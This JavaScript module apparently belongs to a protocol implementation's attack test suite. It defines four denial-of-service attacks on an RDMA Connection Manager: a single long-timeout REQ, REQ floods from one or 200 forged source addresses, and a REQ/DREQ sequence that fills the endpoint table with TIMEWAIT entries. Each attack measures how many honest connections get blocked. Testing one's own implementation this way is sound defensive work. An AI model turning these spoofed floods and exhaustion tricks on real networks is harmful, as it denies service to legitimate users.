// @ts-check
/** What a stranger does to RDMA CM on QP1, by datagrams. */

import { setTimeout as delay } from 'node:timers/promises';
import { encodeIpPrivateData, tcpServiceId } from '../../../build/src/cm/ip-addressing.js';
import { buildMad, parseMad } from '../../../build/src/cm/messages.js';
import { IpAddress } from '../../../build/src/packet/index.js';
import { LocalForger } from '../forger.js';

/** @typedef {import('../attacks.js').Attack} Attack @typedef {import('../attacks.js').Facts} Facts */

const GSI = { opcode: 'UD SEND_ONLY', destQpn: 1, sourceQpn: 1, qkey: 0x8001_0000 };
const BTH_AND_DETH_BYTES = 20;
const MAD_BYTES = 256;
/** Local response timeout 31 and 15 retries: 39 hours; ACK timeout 31: 2.4 hours of TIMEWAIT. */
const LONGEST = { localResponseTimeout: 31, remoteResponseTimeout: 31, maxCmRetries: 15, primaryLocalAckTimeout: 31 };

/** @param {Facts} facts @param {string} source @param {number} id */
function request({ server, cmPort }, source, id) {
  const from = IpAddress.parse(source);
  const to = IpAddress.parse(server);
  return buildMad('REQ', BigInt(id) << 32n, {
    localCommId: id,
    serviceId: tcpServiceId(cmPort),
    localCaGuid: 0x0200_00ff_fe00_0001n,
    localQpn: 0x100 + (id % 0xf00000),
    responderResources: 1,
    initiatorDepth: 1,
    startingPsn: id & 0xffffff,
    retryCount: 7,
    rnrRetryCount: 7,
    pkey: 0xffff,
    pathMtu: 3,
    primaryLocalLid: 0xffff,
    primaryRemoteLid: 0xffff,
    primaryLocalGid: from.gid,
    primaryRemoteGid: to.gid,
    primaryHopLimit: 64,
    privateData: encodeIpPrivateData({ source: from, destination: to, sourcePort: 50_000 }, new Uint8Array(0)),
    ...LONGEST,
  });
}

/** A socket where the answers to management datagrams come. @param {Facts} facts @param {string} from @param {(mad: any) => void} [onMad] */
async function openQp1({ server, udpPort }, from, onMad = () => {}) {
  const forger = await LocalForger.open({ from, to: server, udpPort, sourcePort: 4791 });
  const seen = { answers: 0, bytes: 0 };
  forger.onDatagram((datagram) => {
    seen.answers++;
    seen.bytes += datagram.length;
    const mad = parseMad(datagram.subarray(BTH_AND_DETH_BYTES, BTH_AND_DETH_BYTES + MAD_BYTES));
    if (typeof mad !== 'string') onMad(mad);
  });
  return { forger, seen };
}

const connectsBlocked = (/** @type {import('../attacks.js').Outcome} */ { after, seen }) => {
  const { attempts, times, failures } = after.comers.cm;
  const why = failures.length === 0 ? '' : ` (${failures[0].slice(0, 80)})`;
  return {
    text: `${seen.sent} MADs sent, ${seen.answers ?? '?'} answers; ${times.length} of ${attempts} honest connects${why}`,
    won: times.length < attempts * 0.99,
  };
};

/** @param {string[]} sources @param {number} perTick @returns {(facts: Facts) => Promise<any>} */
const flood = (sources, perTick) => async (facts) => {
  const qp1s = await Promise.all(sources.map((source) => openQp1(facts, source)));
  let id = 1;
  for (; facts.going(); await delay(10)) {
    for (let i = 0; i < perTick; i++, id++) {
      const at = id % sources.length;
      await qp1s[at].forger.send(GSI, request(facts, sources[at], id));
    }
  }
  for (const { forger } of qp1s) forger.close();
  const answers = qp1s.reduce((sum, { seen }) => sum + seen.answers, 0);
  return { sent: id - 1, answers };
};

const STRANGER = '127.0.8.66';
const MANY = Array.from({ length: 200 }, (_, i) => `127.8.66.${i + 1}`);

/** @type {Attack[]} */
export const CM_ATTACKS = [
  {
    name: 'cm-one-req',
    title: 'one REQ that allows 39 hours for the answer to it, and is never completed',
    from: 'anywhere',
    async run(facts) {
      const { forger, seen } = await openQp1(facts, STRANGER);
      await forger.send(GSI, request(facts, STRANGER, 1));
      while (facts.going()) await delay(50);
      forger.close();
      return { sent: 1, answers: seen.answers };
    },
    achieved: connectsBlocked,
  },
  {
    name: 'cm-req-flood',
    title: 'REQs of one address with such timeouts, 1,000 a second',
    from: 'anywhere',
    run: flood([STRANGER], 10),
    achieved: connectsBlocked,
  },
  {
    name: 'cm-req-many',
    title: 'the same from 200 addresses',
    from: '200 addresses, or on path',
    run: flood(MANY, 10),
    achieved: connectsBlocked,
  },
  {
    name: 'cm-timewait',
    title: 'REQ and DREQ with the longest ACK timeout, until the table of endpoints is full of TIMEWAIT',
    from: 'anywhere',
    async run(facts) {
      /** Of the server, by ours. @type {Map<number, {localCommId: number, qpn: number}>} */
      const learned = new Map();
      const { forger, seen } = await openQp1(facts, STRANGER, ({ name, fields }) => {
        if (name === 'MRA') learned.set(fields.remoteCommId, { localCommId: fields.localCommId, qpn: 0 });
        if (name === 'REP') learned.set(fields.remoteCommId, { localCommId: fields.localCommId, qpn: fields.localQpn });
      });
      let ended = 0;
      for (let id = 1; facts.going() && ended < 5000; ) {
        const batch = Array.from({ length: 48 }, () => id++);
        for (const each of batch) {
          await forger.send(GSI, request(facts, STRANGER, each));
          await forger.send(GSI, request(facts, STRANGER, each)); // The repetition is answered by an MRA, with the other's ID.
        }
        await delay(5);
        for (const [ours, { localCommId, qpn }] of learned) {
          const fields = { localCommId: ours, remoteCommId: localCommId, remoteQpn: qpn };
          await forger.send(GSI, buildMad('DREQ', BigInt(ours) << 32n, fields));
          ended++;
        }
        learned.clear();
        await delay(5);
      }
      while (facts.going()) await delay(50);
      forger.close();
      return { sent: forger.sent, answers: seen.answers, ended };
    },
    achieved: (outcome) => {
      const { text, won } = connectsBlocked(outcome);
      return { text: `${outcome.seen.ended} endpoints sent to TIMEWAIT; ${text}`, won };
    },
  },
];
